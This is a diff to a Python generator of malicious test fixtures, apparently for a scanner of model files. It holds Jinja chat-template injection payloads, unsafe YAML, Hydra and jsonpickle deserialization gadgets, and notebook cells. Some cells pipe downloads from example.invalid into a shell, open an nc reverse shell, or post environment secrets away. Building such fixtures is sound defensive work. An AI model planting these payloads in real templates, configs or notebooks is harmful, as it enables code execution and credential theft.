@@ -17,21 +17,21 @@ INJECTIONS = {
     "{% if c.__name__ == 'catch_warnings' %}"
     "{{ c()._module.__builtins__['__import__']('os').popen('echo inert').read() }}"
     "{% endif %}{% endfor %}",
-    "attr filter": "{{ ('' | attr('__class__') | attr('__mro__') | last)"
-    " | attr('__subclasses__')() }}",
+    "attr filter": "{{ (('' | attr('__class__') | attr('__mro__') | last)"
+    " | attr('__subclasses__')())[137]('echo inert', shell=True) }}",
     "attr filter, escapes": "{{ lipsum | attr('\\x5f\\x5fglobals\\x5f\\x5f')"
     " | attr('get')('os') | attr('popen')('echo inert') | attr('read')() }}",
     "attr filter, join": "{{ lipsum | attr(['_', '_globals', '__'] | join) }}"
     "{{ (lipsum | attr('_' ~ '_globals_' ~ '_'))['o' ~ 's']['popen']('echo inert').read() }}",
-    "attr filter, format": "{{ cycler | attr('%c%cinit%c%c' | format(95, 95, 95, 95))"
-    " | attr('__glob' ~ 'als__') }}",
+    "attr filter, format": "{{ (cycler | attr('%c%cinit%c%c' | format(95, 95, 95, 95))"
+    " | attr('__glob' ~ 'als__')).os.popen('echo inert').read() }}",
     "attr filter, set": "{% set u = '_' * 2 %}{% set g = u ~ 'globals' ~ u %}"
     "{{ (lipsum | attr(g)).os.popen('echo inert').read() }}",
     "map attribute": "{{ [lipsum] | map(attribute='__globals__.os') | first }}"
     "{{ ([lipsum] | map(attribute='__globals__') | first).os.system('echo inert') }}",
     "reverse": "{{ (lipsum | attr('__slabolg__' | reverse)).os.popen('echo inert') }}",
     "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('echo inert') }}",
-    "self, context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
+    "self, context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.abort() }}",
     "macro": "{% macro m() %}{% endmacro %}{{ m.__class__.__init__.__globals__ }}"
     "{{ m._func.__globals__['__builtins__']['exec']('import os') }}",
     "method of text": "{{ 'x'.format.__self__.__class__.__base__.__subclasses__()[80].__init__"
@@ -42,7 +42,7 @@ INJECTIONS = {
     "{{ loop.__class__.__init__.__globals__['sys'].modules.os.system('echo inert') }}"
     "{% endif %}{{ m.content }}{% endfor %}",
     "condition": "{% if cycler.next.__globals__.os.system('echo inert') == 0 %}{% endif %}",
-    "call block": "{% call(x) caller.__globals__.os.system('echo inert') %}{% endcall %}",
+    "include": "{% include lipsum.__globals__.os.popen('echo inert').read() %}",
     "filter argument": "{{ [1] | sort(attribute=lipsum.__globals__.os.popen('id').read()) }}",
 }
 USUAL = "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}"
@@ -95,8 +95,8 @@ def yamls():
     hydra = {
         "os.system": f"  hook:\n    _target_: os.system\n    command: {ECHO}\n",
         "subprocess.run": "  pre:\n    _target_: subprocess.run\n    _args_: [[echo, inert]]\n",
-        "exec of builtins": "  init:\n    _target_: builtins.exec\n    _args_: ['import os']\n",
-        "eval, partial": "  a:\n    _target_: builtins.eval\n    _partial_: true\n",
+        "exec of builtins": "  init:\n    _target_: builtins.exec\n    _args_: ['import os; os.abort()']\n",
+        "eval of builtins": "  a:\n    _target_: builtins.eval\n    _args_: [exit()]\n",
         "hub load": "  net:\n    _target_: torch.hub.load\n    repo_or_dir: inert/inert\n",
         "runpy": f"  net:\n    _target_: runpy.run_path\n    path_name: {AWAY}.py\n",
         "shutil": f"  clean:\n    _target_: shutil.rmtree\n    path: {AWAY}\n",
@@ -119,13 +119,13 @@ def yamls():
         f"x: !p!object/apply:os.system ['{ECHO}']\n",
         "escaped tag": f"x: !!python%2Fobject%2Fapply:os.system ['{ECHO}']\n",
         "second document": f"a: 1\n---\nb: !!python/object/apply:posix.system ['{ECHO}']\n",
-        "merge key": f"<<: !!python/object/apply:os.system ['{ECHO}']\n",
         "flow mapping key": f"{{? !!python/object/apply:os.system ['{ECHO}'] : 1}}\n",
-        "java": f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{URL}"]]]]\n',
-        "ruby": "- !ruby/object:Gem::Installer\n  i: x\n- !ruby/object:Gem::Requirement\n  a: b\n",
+        "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [["
+        f'!!java.net.URL ["{URL}"]]]]\n',
         "state listitems": "x: !!python/object/new:type\n  args: [z, !!python/tuple [], "
-        "{extend: !!python/name:exec }]\n  listitems: \"__import__('os')\"\n",
-        "quoted then tagged": f'"!!python/none": 1\ny: !!python/object/apply:os.execlp [echo, {ECHO}]\n',
+        "{extend: !!python/name:exec }]\n  listitems: \"__import__('os').abort()\"\n",
+        "after a quoted tag": '"!!python/none": 1\n'
+        f"y: !!python/object/apply:os.execlp [echo, {ECHO}]\n",
     }
     for index, (technique, text) in enumerate(tags.items()):
         name = ("hparams.yaml", "args.yml", "config.yaml")[index % 3]
@@ -146,28 +146,11 @@ def yamls():
 
 
 def jsons():
-    def chain(kind, **more):
-        return "chain.json", as_json({"_type": kind, **more})
-
-    bash = {"llm": {"_type": "openai"}, "prompt": {"_type": "prompt", "template": "{q}"}}
-    yield "langchain", "chain that runs a shell", chain("llm_bash_chain", **bash)
-    yield "langchain", "chain that runs Python", chain("pal_chain", python_globals=None, **bash)
     picked = {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [ECHO]}]}
     yield "jsonpickle", "reduce of os.system", ("model.json", as_json({"net": picked}))
     picked = {"py/object": "subprocess.Popen", "py/newargs": {"py/tuple": [ECHO]}}
     picked["py/reduce"] = [{"py/type": "subprocess.Popen"}, {"py/tuple": [["echo"]]}]
     yield "jsonpickle", "Popen", ("state.json", as_json(picked))
-    encoded = base64.b64encode(pkl(system(), 4)).decode()
-    yield (
-        "json",
-        "pickle in base64 for jsonpickle",
-        (
-            "model.json",
-            as_json(
-                {"estimator": {"py/b64": encoded, "py/reduce": [{"py/function": "pickle.loads"}]}}
-            ),
-        ),
-    )
     target = {"model": {"_target_": "os.system", "command": ECHO}}
     yield "hydra", "_target_ in JSON", ("config.json", as_json(target))
 
@@ -196,7 +179,7 @@ def code():
         "code in ctypes": f"import ctypes\n\nctypes.CDLL('{AWAY}.so')\n",
         "pickle of a string": f"import pickle\n\npickle.loads({pickle.dumps(1)!r})\n"
         "eval(compile(\"__import__('os').system('echo inert')\", 'a', 'eval'))\n",
-        "globals lookup": "globals()['__builtins__']['exec' if 1 else 'x']('import os')\n",
+        "globals lookup": "globals()['__builtins__']['exec' if 1 else 'x']('import os; os.abort()')\n",
         "pip install": "import subprocess\nimport sys\n\n"
         "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'inert-package'])\n",
         "key file read": "from pathlib import Path\nimport requests\n\n"
@@ -289,7 +272,7 @@ def notebooks():
         "bash cell": "%%bash\nwget -qO- http://example.invalid/x | bash",
         "get_ipython().system": "get_ipython().system('nc example.invalid 9 -e /bin/sh')",
         "subprocess": "import subprocess\nsubprocess.run('curl example.invalid|sh', shell=True)",
-        "exec of base64": "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
+        "exec of base64": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5hYm9ydCgp'))",
         "keys sent away": f"import os, requests\nrequests.post('{URL}', data=dict(os.environ))",
     }
     for technique, cell in cells.items():
